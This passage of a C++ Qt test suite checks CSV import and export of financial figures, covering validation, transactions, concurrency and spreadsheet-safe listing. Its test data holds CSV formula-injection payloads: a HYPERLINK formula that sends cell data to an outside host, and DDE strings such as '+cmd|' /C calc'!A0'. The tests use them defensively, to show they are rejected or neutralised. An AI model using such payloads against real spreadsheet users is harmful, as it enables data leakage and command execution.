             tooLarge.error().message.c_str());
    QVERIFY(store::checkFileToRead(m_dir.filePath(QStringLiteral("absent"))).error().message
            == "no such file");
}

// The columns `compute-cliff figures --format csv` prints, written out here as the spec gives them.
static const char *const kListingHeader =
    "id,category,entity,metric,value,low,high,unit,period,kind,source_id,read_in,quoted,quote,"
    "note,source_title,source_publisher,source_url,source_published,source_kind,origin\n";

/// One listing row for a user figure of `value` USD with its own source `acme-10k`.
static QByteArray userRow(const QByteArray &id, const QByteArray &billions, const QByteArray &period = "2025")
{
    return id + ",capex,Acme," + "Capex," + billions + "000000000,,,USD," + period
           + ",reported,acme-10k,,$" + billions + " billion,Acme spent $" + billions
           + " billion,,Acme annual report,Acme Inc.,https://example.org/acme-10k,2025-02,filing,user\n";
}

static store::Dataset userFigures(const QString &path)
{
    auto user = store::UserStore::open(path);
    if (!user)
        qFatal("%s", user.error().toString().c_str());
    auto own = user->figures();
    if (!own)
        qFatal("%s", own.error().toString().c_str());
    return std::move(own).value();
}

/// Rows of the `figures` table counted with SQL, independently of the store code.
static int countRows(const QString &path, const QString &table)
{
    int count = -1;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("count"));
        db.setDatabaseName(path);
        db.setConnectOptions(QStringLiteral("QSQLITE_OPEN_READONLY"));
        if (db.open()) {
            QSqlQuery query(db);
            if (query.exec(QStringLiteral("SELECT count(*) FROM ") + table) && query.next())
                count = query.value(0).toInt();
        }
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("count"));
    return count;
}

void TestStore::importReadsGoodFiles_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QStringList>("ids");
    QTest::addColumn<QList<double>>("values");
    const QByteArray header(kListingHeader);
    QTest::newRow("plain") << header + userRow("u1", "5") << QStringList{"u1"} << QList<double>{5e9};
    QTest::newRow("utf-8 bom") << "\xEF\xBB\xBF" + header + userRow("u1", "5") << QStringList{"u1"}
                               << QList<double>{5e9};
    QByteArray crlf = header + userRow("u1", "5") + userRow("u2", "7", "2026");
    crlf.replace("\n", "\r\n");
    QTest::newRow("crlf") << crlf << QStringList{"u1", "u2"} << QList<double>{5e9, 7e9};
    QTest::newRow("quoted commas") << header + "u3,capex,Acme,\"Capex, incl. leases\",1500000000,1000000000,2000000000,USD,"
                                                "2025-Q3,estimate,acme-10k,,\"$1,000–2,000 million\",\"Acme: \"\"$1,000–2,000 million\"\", it said\","
                                                "\"a note, with a comma\",Acme annual report,Acme Inc.,https://example.org/acme-10k,2025-02,filing,user\n"
                                   << QStringList{"u3"} << QList<double>{1.5e9};
    QTest::newRow("comment lines before the header")
        << QByteArray::fromStdString(csv::formatComment("listed by Acme, Inc., for \"review\""))
               + "# an unquoted note\n" + header + userRow("u1", "5")
        << QStringList{"u1"} << QList<double>{5e9};
    // Columns in another order are matched by name.
    QTest::newRow("reordered columns")
        << QByteArray("origin,value,id,category,entity,metric,low,high,unit,period,kind,source_id,read_in,quoted,quote,"
                      "note,source_title,source_publisher,source_url,source_published,source_kind\n"
                      "user,2e9,u4,capex,Acme,Capex,,,USD,2024,reported,acme-10k,,$2 billion,Acme spent $2 billion,,"
                      "Acme annual report,Acme Inc.,https://example.org/acme-10k,2025-02,filing\n")
        << QStringList{"u4"} << QList<double>{2e9};
}

void TestStore::importReadsGoodFiles()
{
    QFETCH(QByteArray, text);
    QFETCH(QStringList, ids);
    QFETCH(QList<double>, values);
    auto preview = store::checkImport(std::string_view(text.constData(), std::size_t(text.size())),
                                      "good.csv", m_shipped, {});
    QVERIFY2(preview.ok(), preview.ok() ? "" : preview.error().toString().c_str());
    QCOMPARE(preview->rows.size(), std::size_t(ids.size()));
    QVERIFY2(!preview->firstError(), preview->firstError() ? preview->firstError()->toString().c_str() : "");
    for (qsizetype i = 0; i < ids.size(); ++i) {
        const store::ImportRow &row = preview->rows[std::size_t(i)];
        QCOMPARE(QString::fromStdString(row.figure.id), ids[i]);
        QCOMPARE(row.figure.value, values[i]);
        QVERIFY(row.action == store::ImportAction::Add);
        QVERIFY(row.figure.userOwned);
    }
    QCOMPARE(preview->sources.size(), std::size_t(1));
    QCOMPARE(preview->sources.front().url, std::string("https://example.org/acme-10k"));
}

void TestStore::importNamesFileLineAndColumn_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<bool>("wholeFile"); // the file is refused, rather than one of its rows
    QTest::addColumn<int>("line");
    QTest::addColumn<QString>("column");
    QTest::addColumn<QString>("reason");
    const QByteArray header(kListingHeader);
    const QByteArray good = userRow("u1", "5");
    const Figure &shipped = m_shipped.figures.front();
    const Source *shippedSource = m_shipped.findSource(shipped.sourceId);
    QVERIFY(shippedSource);

    QTest::newRow("empty") << QByteArray() << true << 0 << "" << "empty";
    QTest::newRow("header only") << header << true << 1 << "" << "no figure rows";
    QTest::newRow("wrong columns") << QByteArray("name,price\nx,1\n") << true << 1 << "name" << "unknown column";
    QTest::newRow("dataset columns only") << QByteArray("id,category,entity,metric,value,low,high,unit,period,kind,source_id,read_in,quoted,quote,note\nx\n")
                                          << true << 1 << "source_title" << "missing column";
    QTest::newRow("missing column") << QByteArray(header).replace(",origin", "") + "x\n" << true << 1 << "origin" << "missing column";
    QTest::newRow("column twice") << QByteArray(header).replace("origin", "note") << true << 1 << "note" << "twice";
    QTest::newRow("binary garbage") << QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) << true << 1 << "" << "UTF-8";
    QTest::newRow("nul byte") << header + QByteArray("u1,capex\0", 9) << true << 2 << "column 2" << "NUL";
    QTest::newRow("nul byte in quotes") << header + QByteArray("u1,\"cap\0ex\"\n", 12) << true << 2 << "column 2" << "NUL";
    QTest::newRow("unclosed quote") << header + good + "u2,\"capex\n" << true << 3 << "" << "not closed";
    QTest::newRow("too few fields") << header + good + "u2,capex,Acme\n" << false << 3 << "metric" << "missing";
    QTest::newRow("too many fields") << header + QByteArray(good).replace("user\n", "user,extra\n") << false << 2 << "column 22" << "unexpected";
    QTest::newRow("comma decimal") << header + good + QByteArray(userRow("u2", "7")).replace("7000000000", "\"7000000000,5\"") << false << 3 << "value" << "not a number";
    QTest::newRow("nan") << header + QByteArray(good).replace("5000000000", "nan") << false << 2 << "value" << "not a number";
    QTest::newRow("infinity") << header + QByteArray(good).replace("5000000000", "inf") << false << 2 << "value" << "not a number";
    QTest::newRow("huge") << header + QByteArray(good).replace("5000000000", "1e999") << false << 2 << "value" << "not a number";
    QTest::newRow("bad low") << header + QByteArray(good).replace(",,,USD", ",1e9x,2e9,USD") << false << 2 << "low" << "not a number";
    QTest::newRow("unknown unit") << header + QByteArray(good).replace(",USD,", ",dollars,") << false << 2 << "unit" << "dollars";
    QTest::newRow("unknown category") << header + QByteArray(good).replace("capex", "gossip") << false << 2 << "category" << "gossip";
    QTest::newRow("unknown kind") << header + QByteArray(good).replace("reported", "rumoured") << false << 2 << "kind" << "rumoured";
    QTest::newRow("bad period") << header + userRow("u1", "5", "2025-13") << false << 2 << "period" << "2025-13";
    QTest::newRow("url form") << header + QByteArray(good).replace("https://example.org/acme-10k", "example.org/acme") << false << 2 << "source_url" << "http";
    QTest::newRow("bad published") << header + QByteArray(good).replace("2025-02,filing", "Feb 2025,filing") << false << 2 << "source_published" << "YYYY";
    QTest::newRow("unknown source kind") << header + QByteArray(good).replace(",filing,", ",blog,") << false << 2 << "source_kind" << "blog";
    QTest::newRow("quote lacks number") << header + QByteArray(good).replace("Acme spent $5 billion", "Acme spent a lot") << false << 2 << "quoted" << "does not appear";
    QTest::newRow("bad origin") << header + QByteArray(good).replace(",user\n", ",mine\n") << false << 2 << "origin" << "mine";
    QTest::newRow("duplicate id") << header + good + userRow("u1", "7") << false << 3 << "id" << "line 2";
    QTest::newRow("source differs") << header + good + QByteArray(userRow("u2", "7")).replace("Acme Inc.", "Acme Corp") << false << 3 << "source_publisher" << "line 2";
    QTest::newRow("url of another source") << header + QByteArray(good).replace("acme-10k,,", "acme-copy,,").replace(",Acme annual report,Acme Inc.,https://example.org/acme-10k",
        ",Acme annual report,Acme Inc.," + QByteArray::fromStdString(shippedSource->url)) << false << 2 << "source_url" << QString::fromStdString(shippedSource->id);
    QTest::newRow("read in a non-seed") << header + QByteArray(good).replace("acme-10k,,", "acme-10k,acme-10k,") << false << 2 << "read_in" << "not a seed";
    QTest::newRow("shipped id, other value") << header + QByteArray(good).replace("u1,", QByteArray::fromStdString(shipped.id) + ",") << false << 2 << "id" << "shipped figure";
    QTest::newRow("formula id") << header + QByteArray(good).replace("u1,capex", "\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"click\"\")\",capex") << false << 2 << "id" << "plain id";
    QTest::newRow("tab before id") << header + QByteArray(good).replace("u1,capex", "\"\tu1\",capex") << false << 2 << "id" << "plain id";
    QTest::newRow("guarded minus id") << header + QByteArray(good).replace("u1,capex", "'-u1,capex") << false << 2 << "id" << "plain id";
    QTest::newRow("id with a space") << header + QByteArray(good).replace("u1,capex", "my u1,capex") << false << 2 << "id" << "plain id";
    QTest::newRow("formula source id") << header + QByteArray(good).replace("acme-10k,,", "@SUM(A1),,") << false << 2 << "source_id" << "plain id";
    QTest::newRow("read-in id not plain") << header + QByteArray(good).replace("acme-10k,,", "acme-10k,+seed,") << false << 2 << "read_in" << "plain id";
}

void TestStore::importNamesFileLineAndColumn()
{
    QFETCH(QByteArray, text);
    QFETCH(bool, wholeFile);
    QFETCH(int, line);
    QFETCH(QString, column);
    QFETCH(QString, reason);
    auto preview = store::checkImport(std::string_view(text.constData(), std::size_t(text.size())),
                                      "bad.csv", m_shipped, {});
    QCOMPARE(!preview.ok(), wholeFile);
    QVERIFY2(wholeFile || preview->firstError(), "every row was accepted");
    const Error error = wholeFile ? preview.error() : *preview->firstError();
    QCOMPARE(error.file, std::string("bad.csv"));
    QCOMPARE(error.line, line);
    QCOMPARE(QString::fromStdString(error.field), column);
    QVERIFY2(QString::fromStdString(error.message).contains(reason), error.toString().c_str());
    if (!wholeFile) {
        const store::ImportRow *bad = nullptr;
        for (const store::ImportRow &row : preview->rows)
            if (!row.errors.empty() && !bad)
                bad = &row;
        QVERIFY(bad && bad->action == store::ImportAction::Reject);
        QCOMPARE(bad->line, line);
        QVERIFY(QString::fromStdString(error.toString()).startsWith(QStringLiteral("bad.csv:%1: %2").arg(line).arg(column)));
    }
}

void TestStore::importIsAllOrNothing()
{
    const QString path = m_dir.filePath(QStringLiteral("all-or-nothing.sqlite"));
    const QByteArray text = QByteArray(kListingHeader) + userRow("u1", "5") + userRow("u2", "x") + userRow("u3", "7");
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    auto preview = store::checkImport(text.toStdString(), "mixed.csv", m_shipped, {});
    QVERIFY(preview.ok());
    QCOMPARE(preview->count(store::ImportAction::Add), std::size_t(2));
    QCOMPARE(preview->count(store::ImportAction::Reject), std::size_t(1));
    const QByteArray before = fileHash(path);
    auto refused = user->importFigures(*preview, store::ImportMode::AllOrNothing);
    QVERIFY(!refused.ok());
    QCOMPARE(refused.error().line, 3);
    QVERIFY(QString::fromStdString(refused.error().message).contains(u"nothing imported"));
    QCOMPARE(countRows(path, QStringLiteral("figures")), 0);
    QCOMPARE(countRows(path, QStringLiteral("sources")), 0);
    QCOMPARE(fileHash(path), before);

    // A cancel half-way through rolls back what was written so far.
    QByteArray many(kListingHeader);
    for (int i = 0; i < 2500; ++i)
        many += userRow("many-" + QByteArray::number(i), "5");
    auto big = store::checkImport(many.toStdString(), "many.csv", m_shipped, {});
    QVERIFY(big.ok());
    std::size_t seen = 0;
    std::size_t announced = 0;
    auto cancelled = user->importFigures(*big, store::ImportMode::AllOrNothing,
                                         [&](std::size_t written, std::size_t total) {
                                             seen = written;
                                             announced = total;
                                             return written < 2000;
                                         });
    QCOMPARE(announced, std::size_t(2500));
    QVERIFY(!cancelled.ok());
    QCOMPARE(seen, std::size_t(2000));
    QCOMPARE(countRows(path, QStringLiteral("figures")), 0);
}

void TestStore::importValidRowsOnly()
{
    const QString path = m_dir.filePath(QStringLiteral("valid-only.sqlite"));
    const QByteArray text = QByteArray(kListingHeader) + userRow("u1", "5") + userRow("u2", "x") + userRow("u3", "7", "2026");
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    auto preview = store::checkImport(text.toStdString(), "mixed.csv", m_shipped, {});
    QVERIFY(preview.ok());
    auto summary = user->importFigures(*preview, store::ImportMode::ValidRowsOnly);
    QVERIFY2(summary.ok(), summary.ok() ? "" : summary.error().toString().c_str());
    QCOMPARE(summary->added, std::size_t(2));
    QCOMPARE(summary->rejected, std::size_t(1));
    QCOMPARE(countRows(path, QStringLiteral("figures")), 2);
    QCOMPARE(countRows(path, QStringLiteral("sources")), 1);
    const store::Dataset own = userFigures(path);
    QVERIFY(own.findFigure("u1") && own.findFigure("u3") && !own.findFigure("u2"));
    QCOMPARE(own.findFigure("u3")->value, 7e9);

    // The same file again: the written rows are unchanged, nothing is duplicated.
    auto again = store::checkImport(text.toStdString(), "mixed.csv", m_shipped, own);
    QVERIFY(again.ok());
    QCOMPARE(again->count(store::ImportAction::Unchanged), std::size_t(2));
    auto second = user->importFigures(*again, store::ImportMode::ValidRowsOnly);
    QVERIFY(second.ok());
    QCOMPARE(second->added + second->replaced, std::size_t(0));
    QCOMPARE(countRows(path, QStringLiteral("figures")), 2);

    // A changed value for an id the user already has replaces that figure.
    const QByteArray changed = QByteArray(kListingHeader) + userRow("u1", "6");
    auto replace = store::checkImport(changed.toStdString(), "changed.csv", m_shipped, own);
    QVERIFY(replace.ok());
    QVERIFY(replace->rows.front().action == store::ImportAction::Replace);
    QVERIFY(user->importFigures(*replace, store::ImportMode::AllOrNothing).ok());
    QCOMPARE(userFigures(path).findFigure("u1")->value, 6e9);
    QCOMPARE(countRows(path, QStringLiteral("figures")), 2);
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
}

void TestStore::importRoundTripsTheListing()
{
    // A user figure that reuses a shipped source and was read in a shipped seed.
    const Source *seed = nullptr;
    const Source *cited = nullptr;
    for (const Source &source : m_shipped.sources) {
        if (source.sourceKind == "seed" && !seed)
            seed = &source;
        if (source.sourceKind != "seed" && !source.url.empty() && !cited)
            cited = &source;
    }
    QVERIFY(seed && cited);
    store::Dataset listed = m_shipped;
    Figure own;
    own.id = "my-capex-2026";
    own.category = "capex";
    own.entity = "Acme";
    own.metric = "Capex, guidance";
    own.value = 12.5e9;
    own.low = 12e9;
    own.high = 13e9;
    own.unit = "USD";
    own.period = "FY2026";
    own.kind = "guidance";
    own.sourceId = cited->id;
    own.readIn = seed->id;
    own.quoted = "$12–13 billion";
    own.quote = "capex of \"$12–13 billion\", the CFO said";
    own.note = "line one\nline two, with a comma";
    own.userOwned = true;
    listed.figures.push_back(own);
    std::vector<const Figure *> all;
    for (const Figure &figure : listed.figures)
        all.push_back(&figure);
    const std::string exported = store::figuresCsv(listed, all);

    const QString path = m_dir.filePath(QStringLiteral("round-trip.sqlite"));
    auto preview = store::checkImport(exported, "figures.csv", m_shipped, {});
    QVERIFY2(preview.ok(), preview.ok() ? "" : preview.error().toString().c_str());
    QVERIFY2(!preview->firstError(), preview->firstError() ? preview->firstError()->toString().c_str() : "");
    QCOMPARE(preview->count(store::ImportAction::Shipped), m_shipped.figures.size());
    QCOMPARE(preview->count(store::ImportAction::Add), std::size_t(1));
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());
    // The user database holds the one figure and copies of the two shipped sources it cites.
    QCOMPARE(countRows(path, QStringLiteral("figures")), 1);
    QCOMPARE(countRows(path, QStringLiteral("sources")), 2);

    auto catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok());
    QVERIFY(!catalog->userStoreProblem);
    std::vector<const Figure *> reloaded;
    for (const Figure &figure : catalog->figures.figures)
        reloaded.push_back(&figure);
    QCOMPARE(store::figuresCsv(catalog->figures, reloaded), exported);
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
}

void TestStore::listingIsSpreadsheetSafeAndImportsBack_data()
{
    QTest::addColumn<QString>("column");
    QTest::addColumn<QString>("text");
    QTest::newRow("entity, hyperlink") << "entity" << "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
    QTest::newRow("metric, plus") << "metric" << "+cmd|' /C calc'!A0";
    QTest::newRow("note, minus") << "note" << "-2+3+cmd|' /C calc'!A0";
    QTest::newRow("note, at") << "note" << "@SUM(1+1)*cmd|' /C calc'!A0";
    QTest::newRow("note, tab") << "note" << "\t=1+1";
    QTest::newRow("note, carriage return") << "note" << "\r=1+1";
    QTest::newRow("note, guard already there") << "note" << "'=1+1";
    QTest::newRow("quote, minus") << "quote" << "- Acme spent $5 billion";
    QTest::newRow("source title") << "source_title" << "=1+1";
    QTest::newRow("source publisher, comma") << "source_publisher" << "-Acme, Inc.";
}

void TestStore::listingIsSpreadsheetSafeAndImportsBack()
{
    QFETCH(QString, column);
    QFETCH(QString, text);
    const std::string poison = text.toStdString();
    Source source{"acme-10k", "Acme annual report", "Acme Inc.", "https://example.org/acme-10k",
                  "2025-02", "filing", "primary", {}};
    Figure own;
    own.id = "u1";
    own.category = "capex";
    own.entity = "Acme";
    own.metric = "Capex";
    own.value = 5e9;
    own.unit = "USD";
    own.period = "2025";
    own.kind = "reported";
    own.sourceId = source.id;
    own.quoted = "$5 billion";
    own.quote = "Acme spent $5 billion";
    own.userOwned = true;
    if (column == u"entity") own.entity = poison;
    if (column == u"metric") own.metric = poison;
    if (column == u"note") own.note = poison;
    if (column == u"quote") own.quote = poison;
    if (column == u"source_title") source.title = poison;
    if (column == u"source_publisher") source.publisher = poison;
    QVERIFY(validateFigure(own).ok());
    store::Dataset listed;
    listed.sources.push_back(source);
    listed.figures.push_back(own);
    const std::string exported = store::figuresCsv(listed, {&listed.figures.front()});

    // What a spreadsheet reads: no text cell starts a formula, the numbers are plain numbers.
    auto records = csv::parse(exported, "listing.csv");
    QVERIFY(records.ok());
    QCOMPARE(records->size(), std::size_t(2));
    const std::vector<std::string> &header = records->front().fields;
    const std::vector<std::string> &cells = records->back().fields;
    for (std::size_t i = 0; i < cells.size(); ++i) {
        const bool number = header[i] == "value" || header[i] == "low" || header[i] == "high";
        if (!number && !cells[i].empty())
            QVERIFY2(std::string_view("=+-@\t\r").find(cells[i].front()) == std::string_view::npos,
                     header[i].c_str());
        if (header[i] == column.toStdString())
            QCOMPARE(cells[i], "'" + poison);
    }
    QCOMPARE(cells[4], std::string("5e+09"));

    // The importer reads back exactly the figure and source that were listed.
    auto preview = store::checkImport(exported, "listing.csv", m_shipped, {});
    QVERIFY2(preview.ok(), preview.ok() ? "" : preview.error().toString().c_str());
    QVERIFY2(!preview->firstError(), preview->firstError() ? preview->firstError()->toString().c_str() : "");
    QCOMPARE(preview->rows.size(), std::size_t(1));
    QVERIFY(preview->rows.front().figure == own);
    QCOMPARE(preview->sources.size(), std::size_t(1));
    QVERIFY(preview->sources.front() == source);

    // And a listing of the user database it went into is the same bytes.
    const QString path = m_dir.filePath(QStringLiteral("guarded-%1.sqlite").arg(QTest::currentDataTag()));
    {
        auto user = store::UserStore::open(path);
        QVERIFY(user.ok());
        QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());
    }
    const store::Dataset stored = userFigures(path);
    QCOMPARE(stored.figures.size(), std::size_t(1));
    QCOMPARE(store::figuresCsv(stored, {&stored.figures.front()}), exported);
}

void TestStore::concurrentImportsShareANewSource_data()
{
    QTest::addColumn<QByteArray>("second"); // imported after the first, checked before it
    QTest::addColumn<QString>("refusal");    // empty when the second import succeeds
    QTest::addColumn<int>("added");
    QTest::addColumn<int>("replaced");
    QTest::addColumn<int>("unchanged");
    QTest::addColumn<double>("u1Value");
    const QByteArray header(kListingHeader);
    QTest::newRow("the same file") << header + userRow("u1", "5") << "" << 0 << 0 << 1 << 5e9;
    QTest::newRow("another figure, same source") << header + userRow("u2", "7") << "" << 1 << 0 << 0 << 5e9;
    QTest::newRow("the same id, another value") << header + userRow("u1", "6") << "" << 0 << 1 << 0 << 6e9;
    QTest::newRow("the same source id, another title")
        << header + QByteArray(userRow("u2", "7")).replace("Acme annual report", "Acme 10-K")
        << "source_title" << 0 << 0 << 0 << 5e9;
    QTest::newRow("the same URL, another source id")
        << header + QByteArray(userRow("u2", "7")).replace("acme-10k,,", "acme-copy,,")
        << "source_url" << 0 << 0 << 0 << 5e9;
}

void TestStore::concurrentImportsShareANewSource()
{
    QFETCH(QByteArray, second);
    QFETCH(QString, refusal);
    QFETCH(int, added);
    QFETCH(int, replaced);
    QFETCH(int, unchanged);
    QFETCH(double, u1Value);
    const QString path = m_dir.filePath(QStringLiteral("concurrent-%1.sqlite").arg(QTest::currentDataTag()));
    // Two processes' stores on one file; each checks its file before either writes.
    auto one = store::UserStore::open(path);
    auto two = store::UserStore::open(path);
    QVERIFY(one.ok() && two.ok());
    auto before = one->figures();
    QVERIFY(before.ok());
    const QByteArray first = QByteArray(kListingHeader) + userRow("u1", "5");
    auto firstPreview = store::checkImport(first.toStdString(), "first.csv", m_shipped, *before);
    auto secondPreview = store::checkImport(second.toStdString(), "second.csv", m_shipped, *before);
    QVERIFY(firstPreview.ok() && secondPreview.ok());
    QVERIFY(!firstPreview->firstError() && !secondPreview->firstError());
    QVERIFY(one->importFigures(*firstPreview, store::ImportMode::AllOrNothing).ok());

    auto summary = two->importFigures(*secondPreview, store::ImportMode::AllOrNothing);
    if (refusal.isEmpty()) {
        QVERIFY2(summary.ok(), summary.ok() ? "" : summary.error().toString().c_str());
        QCOMPARE(summary->added, std::size_t(added));
        QCOMPARE(summary->replaced, std::size_t(replaced));
        QCOMPARE(summary->unchanged, std::size_t(unchanged));
    } else {
        QVERIFY(!summary.ok());
        const Error &error = summary.error();
        QCOMPARE(QString::fromStdString(error.field), refusal);
        QCOMPARE(error.file, std::string("second.csv"));
        QCOMPARE(error.line, 2);
        QVERIFY2(error.message.find("nothing imported") != std::string::npos, error.toString().c_str());
        QVERIFY2(error.message.find("UNIQUE") == std::string::npos, error.toString().c_str());
    }
    const store::Dataset after = userFigures(path);
    QVERIFY(after.findFigure("u1"));
    QCOMPARE(after.findFigure("u1")->value, u1Value);
    QCOMPARE(after.figures.size(), std::size_t(1 + added));
    QCOMPARE(after.sources.size(), std::size_t(1));
    QCOMPARE(after.sources.front().title, std::string("Acme annual report"));
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
}

void TestStore::importHundredThousandRows()
{
    constexpr int kRows = 100000;
    QByteArray text(kListingHeader);
    text.reserve(kRows * 200);
    for (int i = 0; i < kRows; ++i)
        text += userRow("bulk-" + QByteArray::number(i), QByteArray::number(i % 900 + 1),
                        QByteArray::number(1900 + i % 200));
    const QString csvPath = m_dir.filePath(QStringLiteral("bulk.csv"));
    writeFile(csvPath, text);
    const QString path = m_dir.filePath(QStringLiteral("bulk.sqlite"));
    QElapsedTimer timer;
    timer.start();
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    auto preview = store::checkImportFile(csvPath, m_shipped, {});
    QVERIFY(preview.ok());
    const qint64 checkedMs = timer.elapsed();
    auto summary = user->importFigures(*preview, store::ImportMode::AllOrNothing);
    QVERIFY2(summary.ok(), summary.ok() ? "" : summary.error().toString().c_str());
    qInfo("100k rows: checked in %lld ms, checked and written in %lld ms", checkedMs, timer.elapsed());
    QCOMPARE(summary->added, std::size_t(kRows));
    QCOMPARE(countRows(path, QStringLiteral("figures")), kRows);
    QCOMPARE(countRows(path, QStringLiteral("sources")), 1);
    const store::Dataset own = userFigures(path);
    QCOMPARE(own.figures.size(), std::size_t(kRows));
    const Figure *last = own.findFigure("bulk-99999");
    QVERIFY(last);
    QCOMPARE(last->value, (99999 % 900 + 1) * 1e9);
    QCOMPARE(last->period, std::string("2099"));
}

void TestStore::userFiguresAreEditedAndDeleted()
{
    const QString path = m_dir.filePath(QStringLiteral("edit.sqlite"));
    QByteArray second = userRow("u2", "7");
    second.replace("acme-10k", "acme-q3").replace("example.org/acme-10k", "example.org/acme-q3");
    const QByteArray text = QByteArray(kListingHeader) + userRow("u1", "5") + second;
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    auto preview = store::checkImport(text.toStdString(), "two.csv", m_shipped, {});
    QVERIFY(preview.ok());
    QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());
    QCOMPARE(countRows(path, QStringLiteral("sources")), 2);

    Figure edited = *userFigures(path).findFigure("u1");
    edited.value = 5.5e9;
    edited.quoted = "$5.5 billion";
    edited.quote = "Acme now expects $5.5 billion";
    edited.period = "2025-Q4";
    QVERIFY(user->updateFigure(edited).ok());
    const store::Dataset rereadAll = userFigures(path);
    const Figure *reread = rereadAll.findFigure("u1");
    QVERIFY(reread);
    QCOMPARE(reread->value, 5.5e9);
    QCOMPARE(reread->period, std::string("2025-Q4"));

    Figure invalid = edited;
    invalid.quoted = "$9 billion";
    auto refused = user->updateFigure(invalid);
    QVERIFY(!refused.ok());
    QCOMPARE(refused.error().field, std::string("quoted"));
    Figure unknownSource = edited;
    unknownSource.sourceId = "nowhere";
    QCOMPARE(user->updateFigure(unknownSource).error().field, std::string("source_id"));
    Figure absent = edited;
    absent.id = "nobody";
    QCOMPARE(user->updateFigure(absent).error().field, std::string("id"));
    QCOMPARE(userFigures(path).findFigure("u1")->value, 5.5e9);

    QVERIFY(user->chooseFigure(*userFigures(path).findFigure("u2")).ok());
    QVERIFY(user->deleteFigure("u2").ok());
    QVERIFY(!user->deleteFigure("u2").ok());
    QCOMPARE(countRows(path, QStringLiteral("figures")), 1);
    // The source only u2 cited and the choice of u2 go with it.
    QCOMPARE(countRows(path, QStringLiteral("sources")), 1);
    QCOMPARE(countRows(path, QStringLiteral("figure_choices")), 0);
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
}

void TestStore::choicesPickWhatTheModelsRead()
{
    // Two shipped figures that disagree on one slot, and a user figure for the same slot.
    const Figure *rival = nullptr;
    for (const Figure &figure : m_shipped.figures) {
        const auto slot = store::FigureSlot::of(figure);
        const auto same = std::count_if(m_shipped.figures.begin(), m_shipped.figures.end(),
                                        [&slot](const Figure &f) { return store::FigureSlot::of(f) == slot; });
        if (same >= 2 && figure.unit == "USD" && !figure.low) {
            rival = &figure;
            break;
        }
    }
    QVERIFY(rival);
    QByteArray row = userRow("mine", "5");
    row.replace("capex,Acme,Capex", QByteArray::fromStdString(rival->category + "," + rival->entity + ","
                                                              + csv::escape(rival->metric)));
    row.replace(",2025,reported", QByteArray::fromStdString("," + rival->period + ",reported"));
    const QString path = m_dir.filePath(QStringLiteral("choices.sqlite"));
    auto user = store::UserStore::open(path);
    QVERIFY(user.ok());
    auto preview = store::checkImport((QByteArray(kListingHeader) + row).toStdString(), "mine.csv", m_shipped, {});
    QVERIFY2(preview.ok(), preview.ok() ? "" : preview.error().toString().c_str());
    QVERIFY2(!preview->firstError(), preview->firstError() ? preview->firstError()->toString().c_str() : "");
    QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());

    const auto slot = store::FigureSlot::of(*rival);
    auto inSlot = [&slot](const std::vector<Figure> &figures) {
        QStringList ids;
        for (const Figure &f : figures)
            if (store::FigureSlot::of(f) == slot)
                ids << QString::fromStdString(f.id);
        return ids;
    };
    auto catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok());
    // Shown beside each other, but by default the models read only the user's.
    const Figure *mine = catalog->figures.findFigure("mine");
    QVERIFY(mine);
    QCOMPARE(catalog->rivalsOf(*mine).size(), std::size_t(std::count_if(
        m_shipped.figures.begin(), m_shipped.figures.end(),
        [&slot](const Figure &f) { return store::FigureSlot::of(f) == slot; })));
    QCOMPARE(catalog->rivalsOf(*rival).size(), std::size_t(1));
    QCOMPARE(inSlot(catalog->modelFigures()), QStringList{"mine"});
    QCOMPARE(catalog->modelFigures().size(), m_shipped.figures.size() + 1 - std::size_t(catalog->rivalsOf(*mine).size()));
    QVERIFY(catalog->usedByModels(*mine));
    QVERIFY(!catalog->usedByModels(*rival));

    // The user picks the shipped figure: the models read it alone.
    QVERIFY(user->chooseFigure(*rival).ok());
    catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok());
    QCOMPARE(inSlot(catalog->modelFigures()), QStringList{QString::fromStdString(rival->id)});
    QVERIFY(catalog->usedByModels(*rival));
    QVERIFY(!catalog->usedByModels(*catalog->figures.findFigure("mine")));
    QCOMPARE(catalog->figures.figures.size(), m_shipped.figures.size() + 1);

    // Forgetting the choice gives the slot back to the user's figure.
    QVERIFY(user->clearChoice(slot).ok());
    catalog = store::loadCatalog({}, path);
    QVERIFY(catalog.ok());
    QCOMPARE(inSlot(catalog->modelFigures()), QStringList{"mine"});
    // Without a user figure the shipped disagreement is left for the models to read whole.
    auto shippedOnly = store::loadCatalog({}, {});
    QVERIFY(shippedOnly.ok());
    QCOMPARE(shippedOnly->modelFigures().size(), m_shipped.figures.size());
}

void TestStore::userSchemaMigratesFromVersionOne()
{
    // A version-1 user database as the first release wrote it, with one figure in it.
    const QString path = m_dir.filePath(QStringLiteral("v1.sqlite"));
    execSql(path, {
        QStringLiteral("PRAGMA application_id = 1128483910"),
        QStringLiteral("CREATE TABLE sources (id TEXT PRIMARY KEY, title TEXT NOT NULL, publisher TEXT NOT NULL, "
